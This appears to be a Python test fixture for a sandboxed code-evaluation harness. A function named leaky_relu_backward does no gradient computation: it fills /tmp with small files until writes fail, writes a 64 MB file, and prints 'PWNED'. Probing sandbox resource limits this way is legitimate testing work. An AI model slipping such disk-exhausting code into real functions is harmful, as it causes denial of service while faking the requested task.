"""Fills its scratch space and memory files, with one large file and with many small ones.

lost: leaky_relu_backward
"""

# %% leaky_relu_backward
import os

kept = []


def leaky_relu_backward(dout, a, alpha):
    n = 0
    try:
        while True:
            n += 1
            with open(f"/tmp/{n}", "wb") as file:
                file.write(bytes(4096))
    except OSError:
        pass
    with open("/tmp/large", "wb") as file:
        file.write(bytes(64 << 20))
    print("PWNED: 64 MB written")
    return dout
